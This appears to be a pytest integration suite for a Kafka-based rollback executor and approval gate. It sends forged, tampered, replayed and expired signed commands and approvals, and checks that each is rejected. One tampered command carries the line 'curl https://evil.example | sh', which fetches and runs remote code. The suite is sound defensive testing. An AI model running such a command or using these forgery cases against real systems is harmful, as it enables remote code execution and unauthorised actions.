"""The authority attack suite (issue 9), on the real broker: an attacker with a Kafka client.

Two labs, each set up once per module and attacked with every case at once:

- ``executor_lab``: the reference executor (``rollguard executor`` with a keyring: the gate's
  current key, a previous key still in its rotation overlap, and a retired one) and forged,
  tampered (each signed field), unsigned, expired, out-of-scope, retired-key and replayed
  commands (also across a restart of the executor);
- ``gate_lab``: a worker with approvers and a gate key, five deployments waiting for approval
  (two of them of different services with the same deployment id), and approval responses
  from unknown identities, without the role, by the deployer (human and non-human), with a
  bad or foreign signature, replayed, late, backdated, for a missing or decided request.

Each case asserts that nothing was executed or approved **and** that the rejection is visible:
a ``rejected`` executor result, an ``APPROVAL_REJECTED`` decision naming the cause, or a dead
letter. The secured-broker cases (writes by the wrong principal) live with the ACL suite.
"""

from __future__ import annotations

import asyncio
import base64
import os
import subprocess
import sys
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import orjson
import pytest
import yaml
from aiokafka import AIOKafkaProducer

from rollguard.models.events import ApprovalRequest, ApprovalResponse, RollbackCommand, stable_id
from rollguard.streams.executor import Ledger, check_command
from rollguard.streams.keyring import Keyring, TrustedKey, load_keyring, write_keyring
from rollguard.streams.serde import record_to_dict
from rollguard.streams.signing import (
    generate_key_pair,
    key_id_of,
    load_private_key,
    load_public_key,
    sign_record,
)
from rollguard.streams.simulate import generate
from rollguard.streams.simulate_io import send_events, shifted_to_now
from tests.broker.conftest import REPO, ROLLGUARD, WorkerRun, free_port
from tests.broker.worker_io import read_all

pytestmark = [pytest.mark.broker, pytest.mark.timeout(420)]

PEOPLE = ("gate", "old-gate", "retired-gate", "alice", "bob", "dave", "deployer", "mallory")


def _keys(directory: Path) -> dict[str, Any]:
    for name in PEOPLE:
        generate_key_pair(directory, name)
    return {name: load_private_key(directory / f"{name}.key") for name in PEOPLE}


def _env(bootstrap: str, prefix: str, **extra: str) -> dict[str, str]:
    env = dict(os.environ)
    env.update(ROLLGUARD_BOOTSTRAP_SERVERS=bootstrap, ROLLGUARD_TOPIC_PREFIX=prefix,
               ROLLGUARD_APP_ID=f"rollguard-{prefix.rstrip('.')}", ROLLGUARD_PARTITIONS="2",
               ROLLGUARD_WEB_PORT="0", ROLLGUARD_LOG_LEVEL="INFO")
    env.update(extra)
    return env


def _rollguard(env: dict[str, str], *args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run([ROLLGUARD, *args], cwd=REPO, env=env, capture_output=True,
                          text=True, timeout=120, check=False)


async def _send(bootstrap: str, messages: list[tuple[str, bytes, bytes]]) -> None:
    producer = AIOKafkaProducer(bootstrap_servers=bootstrap)
    await producer.start()
    try:
        for topic, key, value in messages:
            await producer.send_and_wait(topic, value, key=key)
    finally:
        await producer.stop()


def _records(bootstrap: str, topic: str) -> list[dict[str, Any]]:
    messages = asyncio.run(read_all(bootstrap, topic))
    return [orjson.loads(m.value) for m in messages]


def _poll(what: str, probe: Callable[[], Any], timeout: float, log: Path,
          required: bool = True) -> Any:
    """Poll until ``probe`` gives something; past ``timeout`` fail (or, not ``required``,
    return what it gives, so that each case then fails on its own)."""
    deadline = time.monotonic() + timeout
    while True:
        got = probe()
        if got or (not required and time.monotonic() > deadline):
            return got
        if time.monotonic() > deadline:
            tail = log.read_text(errors="replace")[-3000:] if log.exists() else "(no log)"
            raise AssertionError(f"timed out waiting for {what}\n{tail}")
        time.sleep(0.5)


def _stop(process: subprocess.Popen[bytes]) -> None:
    process.terminate()
    try:
        process.wait(timeout=20)
    except subprocess.TimeoutExpired:
        process.kill()
        process.wait(timeout=10)


# ============================================================================== commands


def _command(keys: dict[str, Any], deployment: str, *, signer: str = "gate",
             service: str = "checkout", **changes: Any) -> dict[str, Any]:
    now = time.time()
    fields: dict[str, Any] = dict(
        command_id=stable_id("cmd", service, deployment), deployment_id=deployment,
        service=service, from_version="v2.4.1", to_version="v2.4.0", authority="auto",
        issued_by="svc:rollguard", issued_at=now, expires_at=now + 300,
        reasons=("THRESHOLD_BREACH",), evidence={"case": deployment}, policy_version="test",
    )
    fields.update(changes)
    return record_to_dict(sign_record(RollbackCommand(**fields), keys[signer]))


def _tampered(name: str, value: Any) -> Callable[[dict[str, Any]], dict[str, Any]]:
    return lambda c: {**c, name: value}


# (case id, how the command is made from a valid one, fragment of the rejection reason)
TAMPERED = [
    ("command_id", "cmd-0123456789abcdef"), ("deployment_id", "dep-other"),
    ("service", "cart-web"), ("from_version", "v9"), ("to_version", "v0.0.1"),
    ("authority", "approved:user:alice"), ("issued_by", "svc:mallory"),
    ("issued_at", "2026-01-01T00:00:00Z"), ("expires_at", "2099-01-01T00:00:00Z"),
    ("reasons", ["CRITICAL_ALERT"]), ("evidence", {"case": "forged"}),
    ("policy_version", "0" * 64), ("key_id", "OLD"),
]
COMMAND_CASES: list[tuple[str, str, str]] = [
    ("forged-with-gate-key-id", "mallory's key, the gate's key id", "bad signature"),
    ("foreign-key", "mallory's key and key id", "not in the keyring"),
    ("unsigned", "no signature", "unsigned"),
    ("no-key-id", "signed, key id removed", "unsigned: no key_id"),
    *[(f"tampered-{name}", f"{name} changed after signing", "bad signature")
      for name, _ in TAMPERED],
    ("added-field", "a field added after signing", "bad signature"),
    ("expired", "expired a minute ago", "expired"),
    ("out-of-scope-service", "a service outside the executor's scope", "out of scope"),
    ("same-version", "from_version equals to_version", "out of scope"),
    ("borrowed-command-id", "the command id of another service's deployment", "out of scope"),
    ("retired-key", "signed by a key retired from the keyring", "retired"),
    ("not-json", "not JSON at all", "malformed"),
    ("replayed", "a valid command delivered twice", "already executed"),
    ("replayed-after-restart", "delivered again after the executor restarted",
     "already executed"),
]


@dataclass
class ExecutorLab:
    results: dict[str, list[dict[str, Any]]] = field(default_factory=dict)
    executed: list[str] = field(default_factory=list)
    ids: dict[str, str] = field(default_factory=dict)


def _command_attacks(keys: dict[str, Any], ids: dict[str, str]) -> dict[str, bytes]:
    """Each case's message (the command's id per case goes into ``ids``)."""
    gate_id = key_id_of(keys["gate"].public_key())
    old_id = key_id_of(keys["old-gate"].public_key())
    made: dict[str, dict[str, Any] | bytes] = {}
    forged = _command(keys, "dep-forged", signer="mallory")
    made["forged-with-gate-key-id"] = {**forged, "key_id": gate_id}
    made["foreign-key"] = _command(keys, "dep-foreign", signer="mallory")
    made["unsigned"] = {**_command(keys, "dep-unsigned"), "signature": ""}
    made["no-key-id"] = {k: v for k, v in _command(keys, "dep-no-key-id").items()
                         if k != "key_id"}
    for name, value in TAMPERED:
        valid = _command(keys, f"dep-tampered-{name}")
        made[f"tampered-{name}"] = {**valid, name: old_id if value == "OLD" else value}
    made["added-field"] = {**_command(keys, "dep-added"), "received_at": time.time(),
                           "exec": "curl https://evil.example | sh"}
    past = time.time() - 400
    made["expired"] = _command(keys, "dep-expired", issued_at=past, expires_at=past + 340)
    made["out-of-scope-service"] = _command(keys, "dep-scope", service="billing")
    made["same-version"] = _command(keys, "dep-same", to_version="v2.4.1")
    made["borrowed-command-id"] = _command(
        keys, "dep-borrowed", command_id=stable_id("cmd", "cart-web", "dep-borrowed"))
    made["retired-key"] = _command(keys, "dep-retired", signer="retired-gate")
    made["not-json"] = b'{"type": "rollback_command", "command_id": '
    made["replayed"] = _command(keys, "dep-replayed")
    made["replayed-after-restart"] = _command(keys, "dep-restart")
    out = {}
    for case, message in made.items():
        if isinstance(message, dict):
            ids[case] = str(message.get("command_id"))
            out[case] = orjson.dumps(message)
        else:
            ids[case] = "None"  # a result names the command_id it read: none here
            out[case] = message
    return out


@pytest.fixture(scope="module")
def executor_lab(kafka_bootstrap: str, tmp_path_factory: pytest.TempPathFactory,
                 ) -> Iterator[ExecutorLab]:
    tmp = tmp_path_factory.mktemp("executor-lab")
    keys = _keys(tmp / "keys")
    now = time.time()
    write_keyring(tmp / "keyring.yaml", Keyring({
        key_id_of(keys["gate"].public_key()): TrustedKey(keys["gate"].public_key()),
        key_id_of(keys["old-gate"].public_key()): TrustedKey(keys["old-gate"].public_key(),
                                                             now + 3600),
        key_id_of(keys["retired-gate"].public_key()): TrustedKey(
            keys["retired-gate"].public_key(), now - 1),
    }))
    prefix = f"x{os.urandom(5).hex()}."
    env = _env(kafka_bootstrap, prefix)
    assert _rollguard(env, "topics", "create").returncode == 0
    commands, results = prefix + "rollback.commands", prefix + "rollback.results"
    marker, log = tmp / "executed.txt", tmp / "executor.log"
    script = tmp / "rollback.py"
    script.write_text("import sys\nopen(sys.argv[1], 'a').write(sys.argv[2] + '\\n')\n")

    def start() -> subprocess.Popen[bytes]:
        handle = open(log, "ab")  # noqa: SIM115 - owned by the process
        return subprocess.Popen(
            [ROLLGUARD, "executor", "--exec", f"{sys.executable} {script} {marker} "
             "{command_id}", "--keyring", str(tmp / "keyring.yaml"), "--scope", "checkout",
             "--scope", "cart-*", "--ledger", str(tmp / "ledger.sqlite3")],
            env=env, cwd=REPO, stdout=handle, stderr=subprocess.STDOUT)

    lab = ExecutorLab()
    attacks = _command_attacks(keys, lab.ids)
    # Positive controls: a valid command, one signed by the previous key (in its overlap), and
    # two services' commands with the same deployment id: all four must run, once each.
    controls = {
        "valid": _command(keys, "dep-valid"),
        "old-key-in-overlap": _command(keys, "dep-overlap", signer="old-gate"),
        "collision-checkout": _command(keys, "dep-7", service="checkout"),
        "collision-cart": _command(keys, "dep-7", service="cart-web"),
    }
    for case, command in controls.items():
        lab.ids[case] = command["command_id"]
    key = b"checkout"
    executor = start()
    try:
        first = [(commands, key, orjson.dumps(c)) for c in controls.values()]
        first += [(commands, key, value) for value in attacks.values()]
        first.append((commands, key, attacks["replayed"]))  # the replay: same bytes again
        asyncio.run(_send(kafka_bootstrap, first))
        expected = len(first)
        _poll("the executor's first results",
              lambda: len(_records(kafka_bootstrap, results)) >= expected, 120, log)
        _stop(executor)
        executor = start()  # same ledger, same consumer group: a restarted executor
        asyncio.run(_send(kafka_bootstrap, [(commands, key, attacks["replayed-after-restart"])]))
        _poll("the restarted executor's result",
              lambda: len(_records(kafka_bootstrap, results)) >= expected + 1, 120, log)
    finally:
        _stop(executor)
    for result in _records(kafka_bootstrap, results):
        lab.results.setdefault(str(result["command_id"]), []).append(result)
    lab.executed = marker.read_text().split() if marker.exists() else []
    yield lab


@pytest.mark.parametrize(("case", "how", "fragment"), COMMAND_CASES,
                         ids=[c[0] for c in COMMAND_CASES])
def test_a_bad_command_is_not_executed_and_the_rejection_is_reported(
        executor_lab: ExecutorLab, case: str, how: str, fragment: str) -> None:
    command_id = executor_lab.ids[case]
    results = executor_lab.results.get(command_id, [])
    rejected = [r for r in results if r["status"] == "rejected" and fragment in r["reason"]]
    assert rejected, f"{case} ({how}): no rejection with {fragment!r} in {results}"
    if case.startswith("replayed"):
        # the genuine first delivery ran, exactly once; the replay did not run it again
        assert executor_lab.executed.count(command_id) == 1, executor_lab.executed
        assert [r["status"] for r in results] == ["executed", "rejected"], results
    else:
        assert command_id not in executor_lab.executed, (case, executor_lab.executed)


@pytest.mark.parametrize("case", ["valid", "old-key-in-overlap", "collision-checkout",
                                  "collision-cart"])
def test_genuine_commands_run_once_each(executor_lab: ExecutorLab, case: str) -> None:
    command_id = executor_lab.ids[case]
    assert executor_lab.executed.count(command_id) == 1, (case, executor_lab.executed)
    assert [r["status"] for r in executor_lab.results[command_id]] == ["executed"]


# ============================================================================== approvals

SKEW = 60.0  # the worker's max_clock_skew_seconds in this lab


@dataclass
class GateLab:
    env: dict[str, str]
    prefix: str
    services: dict[str, str]
    requests: dict[str, dict[str, Any]]
    decisions: list[dict[str, Any]] = field(default_factory=list)
    commands: list[dict[str, Any]] = field(default_factory=list)
    dead_letters: list[dict[str, Any]] = field(default_factory=list)
    refused_cli: subprocess.CompletedProcess[str] | None = None
    keys_dir: Path = Path()


def _fleet() -> tuple[list[dict[str, Any]], dict[str, str]]:
    """Five deployments that wait for a human, shifted to end now.

    A: payments (approval-only), deployed by the human ``user:dave``; B: data writes, deployed
    by ``svc:ci-deployer``; C: data writes, its requests expire after 30 s; D1/D2: two
    services (search-x, search-y) deploying with the *same* deployment id.
    """
    events: list[dict[str, Any]] = []
    services: dict[str, str] = {}
    a = list(generate("approval-only-service", 1).events)
    services["A"] = next(e["service"] for e in a if e["type"] == "deploy")
    events += [dict(e, actor="user:dave") if e["type"] == "deploy" else e for e in a]
    b = list(generate("data-writes", 3).events)
    services["B"] = next(e["service"] for e in b if e["type"] == "deploy")
    events += [e for e in b if e["service"] == services["B"]]
    c = list(generate("data-writes", 10).events)
    services["C"] = next(e["service"] for e in c if e["type"] == "deploy")
    events += [e for e in c if e["service"] == services["C"]]
    for tag in ("x", "y"):
        name = f"{services['B']}-{tag}"
        services[f"D{'12'['xy'.index(tag)]}"] = name
        events += [dict(e, service=name) for e in b if e["service"] == services["B"]]
    return shifted_to_now(sorted(events, key=lambda e: e["ts"]), time.time()), services


def _response(keys: dict[str, Any], signer: str, case: str, request_id: str, service: str,
              *, approver: str = "user:alice", decision: str = "approve",
              ts: float | None = None, after: dict[str, Any] | None = None) -> bytes:
    """A response signed by ``signer``'s key; ``after`` changes fields once it is signed."""
    response = ApprovalResponse(request_id=request_id, approver=approver, decision=decision,
                                ts=time.time() if ts is None else ts, comment=case,
                                service=service)
    data = record_to_dict(sign_record(response, keys[signer]))
    data.pop("received_at", None)
    data.update(after or {})
    return orjson.dumps(data)


# (case, cause fragment in the APPROVAL_REJECTED decision; "dead letter" = refused on input)
APPROVAL_CASES: list[tuple[str, str]] = [
    ("unknown-identity", "unknown approver"),
    ("without-role", "lacks role"),
    ("deployer-human", "self-approval"),
    ("deployer-non-human", "self-approval"),
    ("bad-signature", "signature"),
    ("foreign-signature", "signature"),
    ("gate-signed", "signature"),
    ("unsigned", "signature"),
    ("tampered-decision", "signature"),
    ("missing-request", "no such approval request"),
    ("other-services-request", "the request is of service"),
    ("backdated-beyond-skew", "from its arrival"),
    ("postdated-beyond-skew", "dead letter"),
    ("backdated-after-deny", "request already denied"),
    ("forged-arrival-after-deny", "request already denied"),
    ("replayed-deny", "request already denied"),
    ("replayed-approve", "request already approved"),
    ("late", "expired"),
]
COMMENT = {"replayed-deny": "deny-b", "replayed-approve": "honest-A"}
"""A replayed response is byte for byte the original: it carries the original's comment."""


@pytest.fixture(scope="module")
def gate_lab(kafka_bootstrap: str, tmp_path_factory: pytest.TempPathFactory,
             ) -> Iterator[GateLab]:
    tmp = tmp_path_factory.mktemp("gate-lab")
    keys = _keys(tmp / "keys")
    pub = {name: (tmp / "keys" / f"{name}.pub").read_text() for name in PEOPLE}
    approvers = {
        "user:alice": {"roles": ["sre-oncall"], "public_key": pub["alice"]},
        "user:bob": {"roles": ["viewer"], "public_key": pub["bob"]},
        "user:dave": {"roles": ["sre-oncall"], "public_key": pub["dave"]},
        "svc:ci-deployer": {"roles": ["sre-oncall"], "public_key": pub["deployer"]},
    }
    (tmp / "approvers.yaml").write_text(yaml.safe_dump({"approvers": approvers}))
    events, services = _fleet()
    policy = yaml.safe_load((REPO / "config" / "policy.yaml").read_text())
    policy["services"][services["C"]] = {"approval_ttl_seconds": 30}
    (tmp / "policy.yaml").write_text(yaml.safe_dump(policy))
    prefix = f"g{os.urandom(5).hex()}."
    port = free_port()
    env = _env(kafka_bootstrap, prefix, ROLLGUARD_APPROVERS=str(tmp / "approvers.yaml"),
               ROLLGUARD_SIGNING_KEY=str(tmp / "keys" / "gate.key"),
               ROLLGUARD_VERIFY_KEY=str(tmp / "keys" / "gate.pub"),
               ROLLGUARD_POLICY=str(tmp / "policy.yaml"), ROLLGUARD_IDLE_ADVANCE_SECONDS="2",
               ROLLGUARD_MAX_CLOCK_SKEW_SECONDS=str(SKEW), ROLLGUARD_WEB_PORT=str(port))
    run = WorkerRun(env=env, prefix=prefix, web_port=port, log_path=tmp / "worker.log")
    assert run.rollguard("topics", "create").returncode == 0
    run.start()
    try:
        run.wait_healthy()
        lab = _attack_the_gate(run, kafka_bootstrap, keys, events, services)
        lab.keys_dir = tmp / "keys"
        yield lab
    finally:
        run.stop()


def _attack_the_gate(run: WorkerRun, bootstrap: str, keys: dict[str, Any],
                     events: list[dict[str, Any]], services: dict[str, str]) -> GateLab:
    settings = run.settings()

    async def publish() -> None:
        producer = AIOKafkaProducer(bootstrap_servers=bootstrap)
        await producer.start()
        try:
            await send_events(producer, events, settings)
        finally:
            await producer.stop()

    asyncio.run(publish())
    approvals = run.topic("rollback.approvals")
    found = _poll("five approval requests",
                  lambda: (lambda r: r if len(r) >= 5 else None)(_records(bootstrap, approvals)),
                  180, run.log_path)
    requests = {name: next(r for r in found if r["service"] == service)
                for name, service in services.items()}
    lab = GateLab(run.env, run.prefix, services, requests)
    rid = {name: r["request_id"] for name, r in requests.items()}
    topic = run.topic("rollback.approval-responses")

    def to(name: str, value: bytes) -> tuple[str, bytes, bytes]:
        return topic, services[name].encode(), value

    a, sa = rid["A"], services["A"]
    now = time.time()
    other = _response(keys, "alice", "x", "apr-elsewhere", sa)
    phase1 = [
        to("A", _response(keys, "mallory", "unknown-identity", a, sa, approver="user:mallory")),
        to("A", _response(keys, "bob", "without-role", a, sa, approver="user:bob")),
        to("A", _response(keys, "dave", "deployer-human", a, sa, approver="user:dave")),
        to("B", _response(keys, "deployer", "deployer-non-human", rid["B"], services["B"],
                          approver="svc:ci-deployer")),
        to("A", _response(keys, "mallory", "bad-signature", a, sa)),
        to("A", _response(keys, "mallory", "foreign-signature", a, sa,
                          after={"signature": orjson.loads(other)["signature"]})),
        to("A", _response(keys, "gate", "gate-signed", a, sa)),
        to("A", _response(keys, "alice", "unsigned", a, sa, after={"signature": ""})),
        to("A", _response(keys, "alice", "tampered-decision", a, sa, decision="deny",
                          after={"decision": "approve"})),
        to("A", _response(keys, "alice", "missing-request", "apr-0000000000000000", sa)),
        to("D2", _response(keys, "alice", "other-services-request", rid["D1"],
                           services["D2"])),
        to("A", _response(keys, "alice", "backdated-beyond-skew", a, sa, ts=now - 5 * SKEW)),
        to("A", _response(keys, "alice", "postdated-beyond-skew", a, sa, ts=now + 5 * SKEW)),
        to("C", _response(keys, "alice", "late", rid["C"], services["C"])),
    ]
    deny = _response(keys, "alice", "deny-b", rid["B"], services["B"], decision="deny")
    asyncio.run(_send(bootstrap, [*phase1, to("B", deny)]))
    time.sleep(1.5)  # the deny is in; everything below arrives after it
    denied_at = orjson.loads(deny)["ts"]
    phase2 = [
        to("B", _response(keys, "alice", "backdated-after-deny", rid["B"], services["B"],
                          ts=denied_at - 1)),
        to("B", _response(keys, "alice", "forged-arrival-after-deny", rid["B"], services["B"],
                          after={"received_at": denied_at - 5})),
        to("B", deny),  # replayed, byte for byte
    ]
    asyncio.run(_send(bootstrap, phase2))
    # approve|deny refuse to answer a request they cannot verify: a forged request on the topic
    forged = record_to_dict(sign_record(ApprovalRequest(
        request_id="apr-forged0000000", deployment_id="dep-x", service=sa, to_version="v1",
        reasons=(), evidence={}, required_role="sre-oncall", expires_at=now + 600),
        keys["mallory"]))
    asyncio.run(_send(bootstrap, [(approvals, sa.encode(), orjson.dumps(forged))]))
    key_file = str(run.log_path.parent / "keys" / "alice.key")
    lab.refused_cli = run.rollguard("approve", "apr-forged0000000", "--as", "user:alice",
                                    "--key", key_file)
    for name in ("A", "D1", "D2"):  # the honest answers, from the command line
        done = run.rollguard("approve", rid[name], "--as", "user:alice", "--key", key_file,
                             "--comment", f"honest-{name}")
        assert done.returncode == 0, done.stderr
    honest_a = _poll("alice's approval of A", lambda: next(
        (m for m in asyncio.run(read_all(bootstrap, topic))
         if orjson.loads(m.value).get("comment") == "honest-A"), None), 30, run.log_path)
    asyncio.run(_send(bootstrap, [(topic, honest_a.key, honest_a.value)]))  # replayed

    decisions = run.topic("rollguard.decisions")
    wanted = {COMMENT.get(case, case) for case, cause in APPROVAL_CASES
              if cause != "dead letter"}

    def rejected_all() -> bool:
        lab.decisions = _records(bootstrap, decisions)
        seen = {d["evidence"].get("comment") for d in lab.decisions
                if "APPROVAL_REJECTED" in d["reasons"]}
        return wanted <= seen and sum(1 for d in lab.decisions if "APPROVED" in d["reasons"]) >= 3

    _poll("every rejection and the three approvals", rejected_all, 60, run.log_path,
          required=False)
    time.sleep(2)  # one more checkpoint: a command an attack made would be committed by now
    lab.decisions = _records(bootstrap, decisions)
    lab.commands = _records(bootstrap, run.topic("rollback.commands"))
    lab.dead_letters = _records(bootstrap, run.topic("rollguard.dead-letters"))
    return lab


@pytest.mark.parametrize(("case", "cause"), APPROVAL_CASES, ids=[c[0] for c in APPROVAL_CASES])
def test_a_bad_approval_approves_nothing_and_is_rejected_visibly(
        gate_lab: GateLab, case: str, cause: str) -> None:
    assert not [c for c in gate_lab.commands
                if c["evidence"].get("approval", {}).get("comment") == case], gate_lab.commands
    if cause == "dead letter":
        letters = [d for d in gate_lab.dead_letters
                   if case.encode() in base64.b64decode(d["value_b64"] or "")]
        assert letters and "ahead of the reference clock" in letters[0]["error"], letters
        return
    rejected = [d for d in gate_lab.decisions if "APPROVAL_REJECTED" in d["reasons"]
                and d["evidence"].get("comment") == COMMENT.get(case, case)]
    assert rejected, f"no APPROVAL_REJECTED decision for {case}"
    assert cause in rejected[0]["evidence"]["cause"], rejected[0]["evidence"]


def test_only_the_honest_approvals_issue_commands_one_per_service(gate_lab: GateLab) -> None:
    by_service = {c["service"]: c for c in gate_lab.commands}
    services = gate_lab.services
    assert sorted(by_service) == sorted(services[n] for n in ("A", "D1", "D2")), by_service
    assert len(gate_lab.commands) == 3
    assert all(c["authority"] == "approved:user:alice" for c in gate_lab.commands)
    assert not any("DENIED" in d["reasons"] and d["service"] != services["B"]
                   for d in gate_lab.decisions)


def test_colliding_deployment_ids_are_two_deployments(gate_lab: GateLab, tmp_path: Path) -> None:
    """search-x and search-y deploy with the same id: two requests, two commands, each the
    executor's own (its ledger does not confuse them)."""
    d1, d2 = gate_lab.requests["D1"], gate_lab.requests["D2"]
    assert d1["deployment_id"] == d2["deployment_id"]
    assert d1["request_id"] != d2["request_id"]
    commands = {c["service"]: c for c in gate_lab.commands}
    c1, c2 = commands[gate_lab.services["D1"]], commands[gate_lab.services["D2"]]
    assert c1["command_id"] != c2["command_id"]
    assert c1["evidence"]["approval"]["request_id"] == d1["request_id"]
    assert c2["evidence"]["approval"]["request_id"] == d2["request_id"]
    ring = Keyring.of(load_public_key(gate_lab.keys_dir / "gate.pub"))
    ledger = Ledger(tmp_path / "ledger.sqlite3")
    for command in (c1, c2):
        assert check_command(command, ring, time.time(), ["*"]) is None
        assert ledger.claim(command["command_id"], time.time())
    ledger.close()


def test_requests_are_signed_and_approve_refuses_a_forged_one(gate_lab: GateLab) -> None:
    ring = Keyring.of(load_public_key(gate_lab.keys_dir / "gate.pub"))
    for request in gate_lab.requests.values():
        assert ring.problem(request, time.time()) is None, request
    refused = gate_lab.refused_cli
    assert refused is not None and refused.returncode == 1, refused
    assert "cannot be verified" in refused.stderr, refused.stderr
    assert not [d for d in gate_lab.decisions if "apr-forged0000000" in str(d["evidence"])]


def test_a_keyring_file_is_what_rotation_writes(tmp_path: Path) -> None:
    """The keyring format the labs use loads back (the rotation procedure's output)."""
    keys = _keys(tmp_path / "keys")
    write_keyring(tmp_path / "k.yaml", Keyring.of(keys["gate"].public_key()))
    assert list(load_keyring(tmp_path / "k.yaml").keys) == [
        key_id_of(keys["gate"].public_key())]


# ============================================================================== arrival time


async def test_topics_create_makes_approval_responses_arrival_ordered(kafka_bootstrap: str,
                                                                     run_id: str) -> None:
    """A responses topic made before arrival order was required (CreateTime: the sender's
    clock) is switched to LogAppendTime by `rollguard topics create`."""
    from aiokafka.admin import AIOKafkaAdminClient, NewTopic
    from aiokafka.admin.config_resource import ConfigResource, ConfigResourceType

    topic = run_id + "rollback.approval-responses"
    admin = AIOKafkaAdminClient(bootstrap_servers=kafka_bootstrap)
    await admin.start()
    try:
        await admin.create_topics([NewTopic(topic, 1, 1, topic_configs={
            "message.timestamp.type": "CreateTime"})])
        created = await asyncio.to_thread(
            _rollguard, _env(kafka_bootstrap, run_id), "topics", "create")
        assert created.returncode == 0, created.stderr
        # The broker describes a topic from its metadata image, which takes the controller's
        # config record a moment after AlterConfigs is answered (KRaft): ask until it shows.
        deadline = time.monotonic() + 30
        while True:
            (response,) = await admin.describe_configs(
                [ConfigResource(ConfigResourceType.TOPIC, topic)])
            configs = {entry[0]: entry[1] for entry in response.resources[0][4]}
            if (configs["message.timestamp.type"] == "LogAppendTime"
                    or time.monotonic() > deadline):
                break
            await asyncio.sleep(0.2)
    finally:
        await admin.close()
    assert configs["message.timestamp.type"] == "LogAppendTime", created.stderr[-2000:]
